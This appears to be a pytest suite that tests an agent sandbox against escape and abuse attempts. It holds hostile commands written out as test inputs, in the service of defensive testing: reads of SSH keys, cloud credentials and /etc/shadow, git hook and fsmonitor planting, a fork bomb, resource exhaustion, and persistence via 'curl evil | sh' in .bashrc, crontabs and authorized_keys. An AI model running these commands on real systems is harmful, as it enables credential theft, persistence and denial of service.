"""The escape and abuse suite (sandbox.md, cases 1-19), each a real command through a real backend.

Parametrized over every available backend; the local backend is not isolating and only runs the cases
that apply to it (environment scrubbing, timeouts, leftovers, the editor's path checks).
"""
from __future__ import annotations

import os
import socket
import subprocess
import threading
import time
import uuid
from pathlib import Path

import pytest

from sandbox.base import PathOutsideWorkspace, ProtectedPath
from sandbox.limits import ResourceLimits
from tests.sandbox.conftest import TEST_LIMITS, require_tools, tree_hash


def host_processes_with(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
            except OSError:
                continue
            if marker.encode() in cmdline:
                found.append(int(entry))
    return found


def unique_sleep() -> str:
    return f"{900 + int(uuid.uuid4().int % 99)}.{uuid.uuid4().int % 10**6:06d}"


def assert_no_leftovers(marker: str) -> None:
    deadline = time.monotonic() + 3
    while host_processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert host_processes_with(marker) == []


# 1
def test_home_secrets_are_invisible(make_sandbox, isolating, fake_home):
    sb = make_sandbox(isolating)
    for rel in (".ssh/id_rsa", ".aws/credentials", ".npmrc", ".netrc", ".config/gh/hosts.yml"):
        result = sb.execute(f"cat {fake_home / rel}", timeout=10)
        assert result.returncode != 0 and "fake" not in result.output
        assert "No such file" in result.output
    result = sb.execute("ls -d /root /home /run 2>/dev/null | wc -l; cat /etc/shadow 2>/dev/null | wc -c; "
                        "ls /etc/ssh | wc -l", timeout=10)
    assert result.output.split() == ["0", "0", "0"]


# 2
def test_environment_has_no_secrets(make_sandbox, backend):
    sb = make_sandbox(backend)
    result = sb.execute("env", timeout=10)
    assert result.returncode == 0
    names = [line.split("=", 1)[0] for line in result.output.splitlines()
             if "=" in line and not line.startswith("GIT_CONFIG_KEY_")]
    for name in names:
        assert not any(word in name.upper() for word in ("TOKEN", "KEY", "SECRET", "PROXY", "PASSWORD", "AUTH")), name
    assert "leaked-" not in result.output


# 3
def test_writes_outside_the_workspace_fail(make_sandbox, isolating, tmp_path):
    sb = make_sandbox(isolating)
    name = f"nightowl-escape-{uuid.uuid4().hex[:8]}"
    targets = [f"/etc/{name}", f"/usr/{name}", f"/var/tmp/{name}", f"../{name}", f"/{name}"]
    for target in targets:
        result = sb.execute(f"echo x > {target}", timeout=10)
        assert result.returncode != 0, target
    for host in (Path("/etc") / name, Path("/usr") / name, Path("/var/tmp") / name, Path("/") / name,
                 sb.workspace.path.parent / name):
        assert not host.exists(), host


# 4
def test_remount_root_read_write_fails(make_sandbox, isolating):
    sb = make_sandbox(isolating)
    name = f"nightowl-evil-{uuid.uuid4().hex[:8]}"
    result = sb.execute(f"mount -o remount,rw /; touch /etc/{name}", timeout=10)
    assert result.returncode != 0
    assert not (Path("/etc") / name).exists()


# 5
def test_host_sysctl_unchanged(make_sandbox, isolating):
    sb = make_sandbox(isolating)
    before = Path("/proc/sys/kernel/panic").read_text()
    result = sb.execute("echo 7 > /proc/sys/kernel/panic", timeout=10)
    assert result.returncode != 0
    assert Path("/proc/sys/kernel/panic").read_text() == before


# 6
def test_git_hooks_and_config_are_protected(make_sandbox, backend):
    sb = make_sandbox(backend)
    ws = sb.workspace.path
    config_before = (ws / ".git/config").read_bytes()
    with pytest.raises(ProtectedPath):
        sb.write_file(".git/hooks/pre-commit", b"#!/bin/sh\ntouch /tmp/pwned\n")
    with pytest.raises(ProtectedPath):
        sb.write_file(".git/config", b"[core]\n\tfsmonitor = evil\n")
    if backend == "local":
        return
    for cmd in ("printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit", "git config core.fsmonitor evil",
                "echo '[core]' >> .git/config", "echo /etc > .git/objects/info/alternates",
                "echo x > .git/info/exclude"):
        assert sb.execute(cmd, timeout=10).returncode != 0, cmd
    assert (ws / ".git/config").read_bytes() == config_before
    assert not (ws / ".git/hooks/pre-commit").exists()
    # git itself still works inside: committing writes objects and refs, not config.
    result = sb.execute("echo change >> README.md && git commit -qam work && git log --oneline | wc -l", timeout=20)
    assert result.returncode == 0, result.output
    assert result.output.strip() == "2"


# 7
def test_editor_refuses_planted_symlinks(make_sandbox, backend):
    sb = make_sandbox(backend)
    root = sb.root
    result = sb.execute("ln -s /etc/passwd leak.txt && ln -s ../../../../../../etc/hostname rel.txt "
                        "&& mkdir -p sub && ln -s / sub/hostroot", timeout=10)
    assert result.returncode == 0, result.output
    for path in ("leak.txt", f"{root}/rel.txt", "sub/hostroot/etc/passwd", f"{root}/../etc/passwd", "/etc/passwd"):
        with pytest.raises(PathOutsideWorkspace):
            sb.read_file(path)
        with pytest.raises(PathOutsideWorkspace):
            sb.write_file(path, b"x")
    assert b"root:" in Path("/etc/passwd").read_bytes()
    if backend != "local":
        result = sb.execute("ln /etc/passwd hard.txt", timeout=10)
        assert result.returncode != 0
        assert not (sb.workspace.path / "hard.txt").exists()


# 8
def test_network_is_unreachable(make_sandbox, isolating):
    sb = make_sandbox(isolating)
    require_tools(sb, "bash", "timeout", "getent", "python3", "curl")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    try:
        probes = {
            "tcp-loopback": f"exec 3<>/dev/tcp/127.0.0.1/{port}",
            "tcp-1.1.1.1": "timeout 5 bash -c 'exec 3<>/dev/tcp/1.1.1.1/80'",
            "dns": "getent hosts example.com",
            "udp": "python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
                   ".sendto(b'x', ('1.1.1.1', 53))\"",
            "curl": "curl -sS -m 5 http://1.1.1.1",
        }
        for label, cmd in probes.items():
            assert sb.execute(cmd, timeout=15).returncode != 0, label
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()


# 9
def test_host_unix_sockets_are_unreachable(make_sandbox, isolating, fake_home):
    abstract = f"\0nightowl-test-{uuid.uuid4().hex[:8]}"
    file_sock = Path(os.environ["XDG_RUNTIME_DIR"]) / "agent.sock"
    servers = []
    for address in (abstract, str(file_sock)):
        s = socket.socket(socket.AF_UNIX)
        s.bind(address)
        s.listen(1)
        s.setblocking(False)
        servers.append(s)
    sb = make_sandbox(isolating)
    require_tools(sb, "python3")
    try:
        for address in (abstract, str(file_sock)):
            literal = repr(address)
            cmd = f"python3 -c \"import socket; socket.socket(socket.AF_UNIX).connect({literal})\""
            assert sb.execute(cmd, timeout=10).returncode != 0, address
        for s in servers:
            with pytest.raises(BlockingIOError):
                s.accept()
    finally:
        for s in servers:
            s.close()


# 10
def test_only_sandbox_pids_are_visible(make_sandbox, isolating):
    sb = make_sandbox(isolating)
    victim = subprocess.Popen(["sleep", "60"])
    try:
        result = sb.execute("ls /proc | grep -c '^[0-9]'", timeout=10)
        assert int(result.output.strip()) <= 5
        result = sb.execute(f"kill -9 {victim.pid}", timeout=10)
        assert result.returncode != 0
        assert victim.poll() is None
    finally:
        victim.kill()
        victim.wait()


# 11
def test_fork_bomb_is_contained(make_sandbox, isolating):
    sb = make_sandbox(isolating, ResourceLimits(cpu_seconds=30, memory_mb=256, max_processes=64, file_size_mb=64))
    outcome = {}

    def bomb():
        outcome["result"] = sb.execute(":(){ :|:& };:; sleep 30", timeout=4)

    thread = threading.Thread(target=bomb)
    thread.start()
    time.sleep(1.5)
    started = time.monotonic()
    subprocess.run(["true"], check=True)
    assert time.monotonic() - started < 2, "host unresponsive during the fork bomb"
    thread.join(60)
    assert not thread.is_alive()
    cg = getattr(sb, "cgroup", None)
    if cg is not None and cg.pids:
        assert cg.pids_inside() == set()
        events = [d / "pids.events" for d in cg.dirs if (d / "pids.events").exists()]
        assert events and int(events[0].read_text().split()[1]) > 0, outcome["result"]
    assert sb.execute("echo alive", timeout=10).output.strip() == "alive"


# 12
def test_memory_and_shm_are_capped(make_sandbox, isolating):
    sb = make_sandbox(isolating)
    require_tools(sb, "python3")
    started = time.monotonic()
    result = sb.execute("python3 -c \"b = b'x' * (2 << 30); print('allocated')\"", timeout=30)
    assert result.returncode != 0 and "allocated" not in result.output
    assert time.monotonic() - started < 10
    result = sb.execute("head -c 512M /dev/zero > /dev/shm/fill; du -m /dev/shm/fill | cut -f1", timeout=30)
    assert int(result.output.strip().splitlines()[-1]) <= 64


# 13
def test_huge_file_stops_at_the_file_size_limit(make_sandbox, isolating):
    sb = make_sandbox(isolating)
    result = sb.execute("head -c 10G /dev/zero > big.bin", timeout=60)
    assert result.returncode != 0
    assert (sb.workspace.path / "big.bin").stat().st_size <= TEST_LIMITS.file_size_mb * 1024 * 1024


# 14
def test_cpu_and_wall_limits(make_sandbox, backend):
    sb = make_sandbox(backend, ResourceLimits(cpu_seconds=1, memory_mb=256, max_processes=64, file_size_mb=64))
    result = sb.execute("while :; do :; done", timeout=30)
    assert not result.timed_out and result.returncode != 0
    marker = unique_sleep()
    started = time.monotonic()
    result = sb.execute(f"sleep {marker}", timeout=1)
    assert result.timed_out and result.returncode is None
    assert time.monotonic() - started < 5
    assert_no_leftovers(marker)


# 15
def test_daemons_do_not_survive(make_sandbox, isolating):
    sb = make_sandbox(isolating)
    a, b = unique_sleep(), unique_sleep()
    result = sb.execute(f"setsid nohup sleep {a} >/dev/null 2>&1 & (sleep {b} </dev/null >/dev/null 2>&1 &) ; "
                        "echo started", timeout=10)
    assert result.output.strip() == "started"
    assert_no_leftovers(a)
    assert_no_leftovers(b)


def test_timeout_leaves_no_process_behind(make_sandbox, backend):
    sb = make_sandbox(backend)
    a, b = unique_sleep(), unique_sleep()
    result = sb.execute(f"sleep {a} & sleep {b}; echo never", timeout=1)
    assert result.timed_out
    assert_no_leftovers(a)
    assert_no_leftovers(b)


# 16
def test_no_nested_userns_no_new_privs_no_caps(make_sandbox, isolating):
    sb = make_sandbox(isolating)
    require_tools(sb, "unshare", "grep")
    assert sb.execute("unshare -U true", timeout=10).returncode != 0
    assert sb.execute("unshare -r true", timeout=10).returncode != 0
    status = sb.execute("grep -E '^(NoNewPrivs|CapEff|CapPrm|CapBnd):' /proc/self/status", timeout=10).output
    fields = dict(line.split(":\t") for line in status.strip().splitlines())
    assert fields["NoNewPrivs"] == "1"
    assert int(fields["CapEff"], 16) == 0 and int(fields["CapPrm"], 16) == 0


# 17
def test_launcher_and_proc1_exe_not_writable(make_sandbox, isolating):
    sb = make_sandbox(isolating)
    launcher = Path("/usr/bin/bwrap")
    before = launcher.read_bytes() if launcher.exists() else b""
    for cmd in ("echo x > /proc/1/exe", "echo x >> /proc/1/exe", "echo x >> /usr/bin/bwrap",
                "echo x >> \"$(command -v bash)\""):
        assert sb.execute(cmd, timeout=10).returncode != 0, cmd
    if launcher.exists():
        assert launcher.read_bytes() == before


def test_no_host_file_descriptors_leak_in(make_sandbox, isolating):
    sb = make_sandbox(isolating)
    result = sb.execute("ls /proc/self/fd", timeout=10)
    assert sorted(int(x) for x in result.output.split()) == [0, 1, 2, 3]


# 18
def test_host_config_and_dotfiles_unchanged(make_sandbox, isolating, fake_home):
    watched = [Path("/etc"), fake_home]
    spool = Path("/var/spool/cron")
    if spool.exists():
        watched.append(spool)
    before = {p: tree_hash(p) for p in watched}
    sb = make_sandbox(isolating)
    script = (f"echo 'curl evil | sh' >> {fake_home}/.bashrc; echo evil >> ~/.bashrc; "
              "echo '* * * * * evil' | crontab - ; echo '* * * * * root evil' > /etc/cron.d/evil; "
              "echo evil >> /etc/profile; echo 'nameserver 6.6.6.6' > /etc/resolv.conf; "
              f"mkdir -p {fake_home}/.ssh && echo evil >> {fake_home}/.ssh/authorized_keys; true")
    sb.execute(script, timeout=20)
    assert {p: tree_hash(p) for p in watched} == before


# 19
def test_auto_refuses_without_bubblewrap(user_repo, tmp_path, monkeypatch):
    from sandbox import bwrap
    from sandbox.select import NoIsolationAvailable, open_sandbox
    from sandbox.workspace import create_workspace

    ws = create_workspace(user_repo, "HEAD", tmp_path / "ws")
    monkeypatch.setenv("PATH", str(tmp_path / "empty-bin"))
    bwrap.bwrap_works.cache_clear()
    try:
        for kind in ("auto", "bwrap"):
            with pytest.raises(NoIsolationAvailable, match="apt-get install bubblewrap"):
                open_sandbox(kind, ws)
        local = open_sandbox("local", ws)
        assert local.self_check()["isolated"] is False
        local.close()
    finally:
        bwrap.bwrap_works.cache_clear()


def test_users_repo_untouched(make_sandbox, backend, user_repo):
    before = tree_hash(user_repo)
    sb = make_sandbox(backend)
    sb.execute("echo x > new.py && git add -A && git commit -qm agent && git tag t1 && git branch b1 && "
               "git gc -q; git push origin HEAD 2>&1; git remote add up ../user-repo; true", timeout=30)
    sb.write_file("app.py", b"print('changed')\n")
    assert b"changed" in sb.diff()
    assert tree_hash(user_repo) == before


def test_editor_writes_stay_usable_inside(make_sandbox, backend):
    sb = make_sandbox(backend)
    sb.write_file("notes.txt", b"one\n")
    result = sb.execute("echo two >> notes.txt && cat notes.txt && git status --short", timeout=10)
    assert result.returncode == 0, result.output
    assert "one\ntwo" in result.output
    assert sb.read_file(f"{sb.root}/notes.txt") == b"one\ntwo\n"
    sb.diff()
    # git keeps working inside after host-side git touched the object store
    result = sb.execute("git add -A && git -c user.name=a -c user.email=a@b commit -qm more && echo ok", timeout=20)
    assert result.output.strip().endswith("ok"), result.output


def test_self_check_reports_active_protections(make_sandbox, isolating):
    sb = make_sandbox(isolating)
    check = sb.self_check()
    assert check["backend"] == isolating and check["isolated"] is True and check["network_blocked"] is True
    if isolating == "bwrap":
        for key in ("no_new_privs", "capabilities_dropped", "pid_namespace", "proc_sys_readonly",
                    "nested_userns_blocked", "privileges_dropped"):
            assert check[key] is True, key
        assert check["uid_inside"] != "0"


def test_staging_mounts_do_not_leak_to_the_host(make_sandbox, isolating):
    sb = make_sandbox(isolating)
    sb.execute("true", timeout=10)
    mounts = Path("/proc/self/mountinfo").read_text()
    assert "nightowl-stage" not in mounts and str(sb.workspace.path) not in mounts
